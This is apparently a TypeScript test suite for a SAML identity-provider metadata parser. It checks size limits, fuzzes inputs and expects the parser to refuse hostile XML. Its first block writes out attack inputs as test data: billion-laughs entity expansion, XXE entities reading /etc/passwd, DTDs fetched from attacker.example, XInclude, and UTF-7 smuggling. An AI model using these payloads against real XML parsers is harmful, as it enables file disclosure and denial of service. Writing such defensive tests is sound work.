import assert from 'node:assert/strict';
import { X509Certificate } from 'node:crypto';
import fc from 'fast-check';
import { describe, it } from 'mocha';
import { MAX_METADATA_CHARACTERS, readIdentityProviderMetadata } from '../../src/core/saml/metadata.js';
import { mutated, place } from '../fuzz/mutate.js';
import { assertSound } from './sound.js';
import { base64Of, fixture, ids, metadataWith, NOW, signingKey, sso } from './support.js';

describe('attacks by XML', () => {
  it('billion laughs is refused where it begins, and nothing expands', () => {
    const entities = Array.from(
      { length: 9 },
      (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
    );
    const document = `<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY l0 "lol">${entities.join('')}]>${metadataWith({ entity: 'entityID="&l9;"' })}`;

    const reading = readIdentityProviderMetadata(document);

    assert.deepEqual(ids(reading), ['xml-doctype']);
    assert.equal(reading.findings[0]?.subject, 'line 2, column 1');
  });

  const doctypes: [name: string, doctype: string][] = [
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ['an external DTD', '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">'],
    ['a public DTD', '<!DOCTYPE a PUBLIC "-//A//B" "http://attacker.example/a.dtd">'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]>'],
    ['default attributes', '<!DOCTYPE a [<!ATTLIST a entityID CDATA "urn:attacker">]>'],
    ['a broken declaration', '<!DOCTYPE a [<!ENTITY'],
    ['a declaration without end', '<!DOCTYPE'],
  ];
  for (const [name, doctype] of doctypes) {
    it(`${name} is refused, in every encoding`, () => {
      const text = doctype + metadataWith({ entity: 'entityID="&x;"' });
      for (const document of [
        text,
        Buffer.from(text),
        Buffer.from(`\ufeff${text}`),
        Buffer.from(`\ufeff${text}`, 'utf16le'),
      ]) {
        assert.deepEqual(ids(readIdentityProviderMetadata(document)), ['xml-doctype']);
      }
    });
  }

  it('a hostile encoding name is a finding like any other', () => {
    for (const encoding of [
      'x'.repeat(900),
      '../../etc/passwd',
      '\u001b[31mred',
      'UTF-7',
      'utf-8\u0000',
      '__proto__',
      '',
    ]) {
      const reading = readIdentityProviderMetadata(
        Buffer.from(`<?xml version="1.0" encoding="${encoding}"?>${metadataWith()}`),
      );

      assert.deepEqual(ids(reading), ['xml-encoding-unsupported'], encoding);
      assertSound(reading);
    }
  });

  it('UTF-7 smuggles no element in', () => {
    const document = `<?xml version="1.0" encoding="UTF-8"?>+ADw-EntityDescriptor+AD4-`;

    assert.deepEqual(ids(readIdentityProviderMetadata(Buffer.from(document))), ['xml-malformed']);
  });

  it('XInclude and schema locations are left alone', () => {
    const include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>';

    const reading = readIdentityProviderMetadata(metadataWith({ beside: include }));

    assert.equal(reading.verdict, 'accepted');
  });

  it('a comment in an address or a certificate hides nothing', () => {
    const commented = metadataWith({ keys: signingKey(base64Of('okta').replace('M', 'M<!-- x -->')) });

    assert.equal(
      readIdentityProviderMetadata(commented).identityProvider?.signingCertificates[0]?.base64,
      base64Of('okta'),
    );
  });

  it('what a message repeats is short and printable', () => {
    const nasty = `\u202e\u2066&#10;&#9;\u0085${'A'.repeat(5000)}`;
    const documents = [
      metadataWith({ protocols: nasty }),
      metadataWith({ services: sso(nasty, nasty) }),
      metadataWith({ entity: `entityID="${nasty}"` }),
      metadataWith({ entity: `entityID="{${nasty.slice(0, 90)}}" validUntil="${nasty}"` }),
      metadataWith({ keys: signingKey(nasty).replace('signing', nasty) }),
      `<${'n'.repeat(5000)}/>`,
      `<EntityDescriptor xmlns="${nasty}"/>`,
      `<a b="&${'e'.repeat(5000)};"/>`,
      `<${'p'.repeat(5000)}:a/>`,
    ];
    for (const document of documents) {
      const reading = readIdentityProviderMetadata(document, { now: NOW });

      assert.equal(reading.verdict, 'refused');
      assertSound(reading);
    }
  });
});

describe('documents of the greatest size', () => {
  const room = (before: string, after: string): number =>
    MAX_METADATA_CHARACTERS - before.length - after.length;
  const fill = (before: string, unit: string, after = ''): string =>
    before + unit.repeat(Math.floor(room(before, after) / unit.length)) + after;

  // The place of the finding shows how far the reader went: to its limit and no further.
  const stopped: [name: string, document: string, id: string, subject: RegExp][] = [
    ['nesting', fill('', '<a>'), 'xml-too-deep', /line 1, column 301$/],
    ['nesting with a namespace each', fill('', '<a xmlns:b="c">'), 'xml-too-deep', /line 1, column 1501$/],
    ['elements', fill('<a>', '<b/>', '</a>'), 'xml-too-many-elements', /line 1, column 80000$/],
    [
      'attributes',
      `<a ${Array.from({ length: 20_000 }, (_, index) => `a${index}=""`).join(' ')}/>`,
      'xml-too-many-attributes',
      /line 1, column 1$/,
    ],
    ['document type', fill('<!DOCTYPE a [', '<!ENTITY a "b">'), 'xml-doctype', /line 1, column 1$/],
    [
      'groups in groups',
      fill('', '<EntitiesDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata">'),
      'xml-too-deep',
      /line 1/,
    ],
    [
      'certificates',
      metadataWith({ keys: signingKey(...Array.from({ length: 200 }, () => base64Of('ec-p256'))) }),
      'metadata-too-many-certificates',
      /IDPSSODescriptor/,
    ],
  ];
  for (const [name, document, id, subject] of stopped) {
    it(`too much ${name} stops the reading where the limit is`, () => {
      assert.ok(document.length <= MAX_METADATA_CHARACTERS);

      const reading = readIdentityProviderMetadata(document);

      assert.deepEqual(ids(reading), [id]);
      assert.match(reading.findings[0]!.subject, subject);
    });
  }

  const read: [name: string, parts: Parameters<typeof metadataWith>[0], unit: string][] = [
    ['comments', { beside: '@' }, '<!---->'],
    ['processing instructions', { beside: '@' }, '<?a?>'],
    ['CDATA sections', { beside: '<x>@</x>' }, '<![CDATA[]]>'],
    ['character references', { beside: '<x>@</x>' }, '&#38;'],
    ['line ends', { beside: '@' }, '\r\n'],
    ['brackets', { beside: '<x>@</x>' }, ']'],
    ['hyphens in a comment', { beside: '<!-- @ -->' }, '- '],
    ['one long attribute', { beside: '<x a="@"/>' }, '&lt;'],
    ['one long name', { beside: '<x@/>' }, 'x'],
    ['names of one prefix', { beside: '<x xmlns:p="u">@</x>' }, '<p:yyyyyyyyyyyyyy a="b"/>'],
  ];
  for (const [name, parts, unit] of read) {
    it(`a document full of ${name} is read to its end`, () => {
      const [before = '', after = ''] = metadataWith(parts).split('@');

      const reading = readIdentityProviderMetadata(fill(before, unit, after));

      assert.deepEqual(reading.findings, []);
      assert.equal(reading.verdict, 'accepted');
    });
  }
});

describe('mutated documents', () => {
  const seeds = [
    'okta',
    'entra',
    'adfs',
    'keycloak',
    'keycloak-legacy',
    'shibboleth',
    'pysaml2',
    'workspace-one',
  ].map((vendor) => fixture(`${vendor}-idp-metadata.xml`));
  const seed = fc.constantFrom(...seeds);
  it('never throw, and what is said about them holds together', () => {
    const verdicts = { accepted: 0, refused: 0 };
    fc.assert(
      fc.property(mutated(seeds), (bytes) => {
        const reading = readIdentityProviderMetadata(bytes, { now: NOW });
        verdicts[reading.verdict] += 1;
        assertSound(reading);
        // Bytes and the text they spell are judged alike, but for what concerns bytes only.
        assertSound(readIdentityProviderMetadata(bytes.toString('utf8'), { now: NOW }));
      }),
      { numRuns: 1500 },
    );
    assert.ok(verdicts.accepted > 20 && verdicts.refused > 500, JSON.stringify(verdicts));
  });

  it('cut off anywhere, are refused', () => {
    fc.assert(
      fc.property(seed, place, (document, at) => {
        const text = document.toString('utf8').trimEnd();
        const reading = readIdentityProviderMetadata(text.slice(0, Math.floor(at * text.length)), {
          now: NOW,
        });
        assert.equal(reading.verdict, 'refused');
        assertSound(reading);
      }),
      { numRuns: 300 },
    );
  });

  /** Whether OpenSSL makes a certificate of exactly these bytes, with a key and dates that it can read. */
  function isReadByOpenssl(der: Buffer): boolean {
    try {
      const x509 = new X509Certificate(der);
      const times = [x509.validFrom, x509.validTo];
      return x509.publicKey.type === 'public' && x509.raw.equals(der) && !times.includes('Bad time value');
    } catch {
      return false;
    }
  }

  it('with bytes of a certificate changed, are accepted as long as OpenSSL reads it, and tell of that one', () => {
    const originals = ['okta', 'ec-p256', 'ed25519', 'rsa-pss', 'chain-leaf', 'no-subject'].map((name) =>
      Buffer.from(base64Of(name), 'base64'),
    );
    const verdicts = { accepted: 0, refused: 0 };
    fc.assert(
      fc.property(
        fc.constantFrom(...originals),
        fc.array(fc.tuple(place, fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 2 }),
        (original, changes) => {
          const der = Buffer.from(original);
          for (const [at, change] of changes) {
            const index = Math.floor(at * der.length);
            der[index] = (der[index] ?? 0) ^ change;
          }
          const reading = readIdentityProviderMetadata(
            metadataWith({ keys: signingKey(der.toString('base64')) }),
            { now: NOW },
          );
          verdicts[reading.verdict] += 1;
          assertSound(reading);
          assert.equal(reading.verdict === 'accepted', isReadByOpenssl(der), der.toString('base64'));
          if (reading.verdict === 'accepted') {
            assert.equal(reading.identityProvider.signingCertificates[0]?.base64, der.toString('base64'));
          }
        },
      ),
      { numRuns: 1000 },
    );
    assert.ok(verdicts.accepted > 200 && verdicts.refused > 100, JSON.stringify(verdicts));
  });

  it('any bytes and any text are judged', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.uint8Array({ maxLength: 400 }), fc.string({ unit: 'binary', maxLength: 400 })),
        (document) => {
          const reading = readIdentityProviderMetadata(document, { now: NOW });
          assert.equal(reading.verdict, 'refused');
          assertSound(reading);
        },
      ),
    );
  });
});
